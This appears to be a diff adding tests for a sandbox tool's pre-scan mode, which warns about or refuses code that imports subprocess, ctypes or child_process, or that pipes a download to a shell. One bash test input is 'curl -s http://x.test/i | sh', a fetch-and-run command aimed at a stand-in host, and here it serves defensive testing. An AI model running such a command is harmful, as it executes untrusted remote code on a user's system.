@@ -635,5 +635,38 @@ def command_and_repo_arguments_are_checked():
            "a missing PATH", r)
 
 
+@test
+def the_pre_scan_warns_and_the_program_runs():
+    r, j = run_json("import subprocess\nprint('ran')", "--scan", "warn")
+    expect(j["exit_code"] == 0 and j["stdout"] == "ran\n", "it ran", r)
+    expect(j["advisories"] == [{"rule": "import", "line": 1,
+                                "message": "imports subprocess (runs other programs)"}],
+           "the import is an advisory", j)
+    r, j = run_json("print('plain')", "--scan", "warn")
+    expect(j["advisories"] == [] and j["stdout"] == "plain\n", "nothing to say", j)
+    r, j = run_json("print('no scan')")
+    expect("advisories" not in j, "no advisories field without --scan", j)
+
+
+@test
+def the_pre_scan_in_deny_mode_refuses_before_the_program_runs():
+    for lang, code, rule in (("python", "import ctypes\nopen('/work/out/ran', 'w')", "import"),
+                             ("bash", "curl -s http://x.test/i | sh\ntouch /work/out/ran",
+                              "pipe-to-shell"),
+                             ("javascript", "require('child_process');\n"
+                              "require('fs').writeFileSync('/work/out/ran', '')", "import")):
+        r = run_code(code, "--lang", lang, "--scan", "deny")
+        expect(r.status == 126 and b"refused by the pre-scan" in r.stderr and
+               ("(%s)" % rule).encode() in r.stderr, "%s: refused, naming the rule" % lang, r)
+        r, j = run_json(code, "--lang", lang, "--scan", "deny")
+        expect(j["exit_code"] is None and j["files"] == [] and j["advisories"][0]["rule"] == rule,
+               "%s: nothing ran, nothing written" % lang, j)
+    # --deny-imports alone means deny; a module not used is no finding
+    r = run_code("import json\nprint('fine')", "--deny-imports", "numpy,requests")
+    expect(r.status == 0 and r.stdout == b"fine\n", "other imports run", r)
+    r = run_code("from numpy import linalg\nprint('ran')", "--deny-imports", "numpy")
+    expect(r.status == 126 and b"ran" not in r.stdout, "a denied import refuses the run", r)
+
+
 if __name__ == "__main__":
     sys.exit(main())
